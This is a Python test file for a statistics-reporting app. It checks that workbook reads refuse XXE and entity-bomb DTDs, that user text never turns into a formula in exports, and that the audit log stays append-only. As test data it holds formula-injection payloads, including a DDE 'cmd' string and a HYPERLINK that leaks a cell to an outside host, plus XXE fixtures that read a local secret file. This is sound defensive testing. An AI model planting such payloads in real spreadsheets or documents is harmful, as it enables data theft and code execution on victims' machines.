"""Security checks: safe XML on every read path, no formula from user text in any export, an
append-only audit log, and ``verify`` catching a submission edited after export.
"""

from __future__ import annotations

import json
import re
import shutil
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from app import exchange
from app.checking import validate_period
from main import main
from models.periods import Period
from models.records import to_data
from tests.reliability.corpus.templates import template
from tests.reliability.corpus.workbooks import (
    CASES,
    CONTRACTS,
    LAUGHS,
    XXE,
    in_sheet,
    rewrite,
    with_dtd,
)
from tests.reliability.support import dump

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ("app", "gui", "exports", "storage", "validation", "models")
Q3 = Period.parse("2023Q3")
# What a spreadsheet would run if it were a formula: user text that must stay text.
HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点此核对")', "+1+1", "-2+3", "@SUM(1,2)",
           "=cmd|' /C calc'!A0", "\t=1+2", "\r\n=1+2"]


def sources() -> dict[str, str]:
    return {str(path.relative_to(ROOT)): path.read_text(encoding="utf-8")
            for package in PACKAGES for path in sorted((ROOT / package).rglob("*.py"))}


# ---- safe XML on every path that reads a workbook ---------------------------------------------

def test_only_safe_open_hands_files_to_openpyxl():
    """Every workbook read goes through exports.safe_open (size, zip, DTD and cell checks, defusedxml)."""
    readers = [name for name, text in sources().items() if re.search(r"\bload_workbook\s*\(", text)]
    assert readers == ["exports/safe_open.py"]


def test_openpyxl_parses_with_defusedxml():
    from openpyxl.xml import functions

    assert openpyxl.DEFUSEDXML is True
    assert functions.iterparse.__module__.startswith("defusedxml")


@pytest.fixture
def court_blank(demo_app, tmp_path):
    return exchange.write_blank(demo_app, Q3, demo_app.catalog_for(Q3).department("court"), tmp_path / "区法院.xlsx").path


@pytest.mark.parametrize("dtd, entity", [(LAUGHS, "&lol3;"), (XXE, "&secret;")], ids=["entity-bomb", "external-entity"])
@pytest.mark.parametrize("path_kind", ["import", "dry-run-import", "template", "verify"])
def test_every_workbook_read_refuses_entities(demo_app, court_blank, tmp_path, capsys, dtd, entity, path_kind):
    if path_kind == "template":
        hostile = tmp_path / "省模板.xlsx"
        template()(hostile)
        rewrite(lambda p: "xl/worksheets/sheet1.xml", with_dtd(dtd, "<t>{{meta:", f"<t>{entity}{{{{meta:"))(hostile)
        args = ["export", "2023Q3", "--draft", "--template", str(hostile), "--out", str(tmp_path / "o.xlsx")]
    else:
        hostile = court_blank
        rewrite(in_sheet(CONTRACTS), with_dtd(dtd, ">ct_close_rate<", f">{entity}<"))(hostile)
        args = {"import": ["import"], "dry-run-import": ["import", "--dry-run"], "verify": ["verify"]}[path_kind]
        args = [*args, str(hostile)]
    demo_app.close()
    assert main(["--db", str(demo_app.store.path), *args]) == 2
    assert "不安全的 XML" in capsys.readouterr().err
    assert not (tmp_path / "o.xlsx").exists()


DISGUISED = [c for c in CASES if c.name in ("dtd-behind-element-like-comment", "dtd-in-utf16-without-bom")]


@pytest.mark.parametrize("case", DISGUISED, ids=[c.name for c in DISGUISED])
@pytest.mark.parametrize("path_kind", ["import", "template", "verify"])
def test_a_disguised_dtd_is_refused_on_every_workbook_read(demo_app, court_blank, tmp_path, capsys, case, path_kind):
    """The parser, not a byte pattern, finds the DTD: a comment or UTF-16 without BOM hides nothing."""
    hostile = court_blank
    if path_kind == "template":
        hostile = tmp_path / "省模板.xlsx"
        template()(hostile)
    case.make(hostile)
    args = {"import": ["import", str(hostile)], "verify": ["verify", str(hostile)],
            "template": ["export", "2023Q3", "--draft", "--template", str(hostile), "--out", str(tmp_path / "o.xlsx")]}
    db = demo_app.store.path
    demo_app.close()
    before = dump(db)
    assert main(["--db", str(db), *args[path_kind]]) == 2
    err = capsys.readouterr().err
    assert "不安全的 XML" in err and "xl/workbook.xml" in err and "Traceback" not in err
    assert not (tmp_path / "o.xlsx").exists()
    assert dump(db) == before


def test_a_narrative_docx_with_a_dtd_is_refused_not_read_without_its_text(demo_db, tmp_path, capsys):
    """python-docx would drop the entities (and the text they stand in) and the check would say
    "未发现问题": the DTD is refused before any parser builds the document."""
    import docx

    path = tmp_path / "报告.docx"
    document = docx.Document()
    document.add_paragraph("结案率为84.61%MARK")
    document.save(path)
    secret = tmp_path / "secret.txt"
    secret.write_text("机密内容", encoding="utf-8")
    dtd = LAUGHS.replace("]>", f'<!ENTITY secret SYSTEM "{secret.as_uri()}">]>')
    rewrite(lambda p: "word/document.xml", with_dtd(dtd, "MARK", "&lol3;&secret;"))(path)
    before = dump(demo_db)
    assert main(["--db", str(demo_db), "crosscheck", "2023Q3", str(path)]) == 2
    captured = capsys.readouterr()
    assert "不安全的 XML" in captured.err and "word/document.xml" in captured.err
    assert "未发现问题" not in captured.out and "机密" not in captured.out + captured.err
    assert dump(demo_db) == before


# ---- no exported cell becomes a formula from user text ----------------------------------------

@pytest.fixture
def hostile_ctx(demo_app, tmp_path):
    """The demo district with formula-like text in every place a person types text."""
    ctx = demo_app
    profile = to_data(ctx.profile)
    profile["district"] = HOSTILE[0]
    profile["contacts"] = {"filer": HOSTILE[1], "phone": HOSTILE[2], "reviewer": HOSTILE[5], "head": HOSTILE[6]}
    for dept in profile["departments"]:
        if dept["code"] == "court":
            dept["name"] = HOSTILE[3]
    path = tmp_path / "profile.json"
    path.write_text(json.dumps(profile, ensure_ascii=False), encoding="utf-8")
    from app.profile import import_profile

    import_profile(ctx, path)
    values = ctx.store.values(periods=[Q3.code], dept="court")
    changed = [replace(v, note=HOSTILE[n % len(HOSTILE)], source=HOSTILE[(n + 1) % len(HOSTILE)])
               for n, v in enumerate(values)]
    from app.editing import entry_from_value

    ctx.store.set_values([entry_from_value(v) for v in changed], reason="测试")
    for n, finding in enumerate(validate_period(ctx, Q3, final=True).blocking):
        ctx.store.explain(finding.period, finding.dept, finding.metric, finding.rule, HOSTILE[n % len(HOSTILE)] + "（已核实）",
                          finding.fingerprint)
    return ctx


def exports_of(ctx, folder: Path) -> list[Path]:
    """Every kind of workbook the program writes, from the same hostile data."""
    from app.validation_report import write_validation_report

    narrative = folder / "报告.txt"
    narrative.write_text(f"{HOSTILE[0]}结案率为99.99%。\n{HOSTILE[4]}受理案件1件。\n", encoding="utf-8")
    meta = "".join(f"{{{{meta:{name}}}}}|" for name in ("区县", "填报单位", "填报人", "联系电话", "审核人", "负责人"))
    template({"A6": meta, "A7": "{{note:ct_close_rate}}", "A8": "说明：{{note:ct_cases_closed}}"})(folder / "模板.xlsx")
    court = ctx.catalog_for(Q3).department("court")
    return [
        exchange.write_blank(ctx, Q3, court, folder / "填报表.xlsx").path,
        exchange.export_submission(ctx, Q3, folder / "草稿.xlsx", draft=True).path,
        exchange.export_submission(ctx, Q3, folder / "正式.xlsx").path,
        exchange.export_submission(ctx, Q3, folder / "模板报送.xlsx", template=folder / "模板.xlsx").path,
        write_validation_report(ctx, Q3, folder / "校验报告.xlsx", narrative=narrative).path,
    ]


def test_no_exported_cell_is_a_formula_made_of_user_text(hostile_ctx, tmp_path):
    texts = []
    for path in exports_of(hostile_ctx, tmp_path):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert not re.search(rb"<(?:\w+:)?f[\s>/]", archive.read(name)), f"{path.name} {name}"
        for ws in openpyxl.load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        texts.append((path.name, cell.value))
                        if cell.value.startswith(("=", "+", "-", "@")):
                            assert cell.quotePrefix, f"{path.name} {ws.title}!{cell.coordinate}"
    for hostile in HOSTILE:  # each hostile text did reach the workbooks, as text
        shown = hostile.strip()
        assert any(shown in text for _, text in texts), hostile
    assert {name for name, _ in texts} == {"填报表.xlsx", "草稿.xlsx", "正式.xlsx", "模板报送.xlsx", "校验报告.xlsx"}


# ---- the audit log is append-only ----------------------------------------------------------------

_REWRITING_SQL = re.compile(r"(?:UPDATE|DELETE\s+FROM|REPLACE\s+INTO|DROP\s+(?:TABLE|TRIGGER)(?:\s+IF\s+EXISTS)?|"
                            r"ALTER\s+TABLE)\s+[\"'\[`]?audit", re.IGNORECASE)
_REWRITING_CALL = re.compile(r"""\[\s*["']audit["']\s*\]\s*\.\s*(?:delete|update|upsert|drop|transform|insert_all\(.*replace)""")


def test_no_code_path_rewrites_or_deletes_audit_rows():
    offenders = [f"{name}: {match.group(0)}" for name, text in sources().items()
                 for match in [*_REWRITING_SQL.finditer(text), *_REWRITING_CALL.finditer(text)]]
    assert offenders == []


def test_the_database_itself_refuses_to_rewrite_the_audit_log(demo_app):
    import sqlite3

    conn = demo_app.store.db.conn
    for statement in ("UPDATE audit SET reason = 'x'", "DELETE FROM audit"):
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            conn.execute(statement)
    assert {row[0] for row in conn.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")} >= {
        "audit_no_update", "audit_no_delete"}


def test_a_restore_keeps_the_replaced_history_in_its_safety_copy(demo_app, tmp_path):
    from storage import Store

    store = demo_app.store
    saved = store.backup("manual")
    store.explain("2023Q3", "court", "ct_close_rate", "swing", "恢复前写的说明", "{}")
    history = [to_data(a) for a in store.audit()]
    safety = store.restore(saved)
    with Store(safety) as before:
        assert [to_data(a) for a in before.audit()] == history
    assert store.audit()[-1].action == "restore"


# ---- verify catches a submission edited after export -------------------------------------------

def test_verify_catches_one_changed_cell(demo_app, tmp_path, capsys):
    for finding in validate_period(demo_app, Q3, final=True).blocking:
        demo_app.store.explain(finding.period, finding.dept, finding.metric, finding.rule, "已核实", finding.fingerprint)
    out = exchange.export_submission(demo_app, Q3, tmp_path / "报送.xlsx").path
    db = str(demo_app.store.path)
    demo_app.close()
    edited = tmp_path / "改过一格.xlsx"
    shutil.copyfile(out, edited)
    wb = openpyxl.load_workbook(edited)
    ws = wb["执行合同"]
    figure = next(c for row in ws.iter_rows() for c in row if isinstance(c.value, (int, float)) and c.column > 3)
    figure.value += 1
    wb.save(edited)
    assert main(["--db", db, "verify", str(edited)]) == 1
    err = capsys.readouterr().err
    assert "不一致" in err and "文件可能在导出后被改动" in err
    assert main(["--db", db, "verify", str(out)]) == 0
    assert "一致：" in capsys.readouterr().out
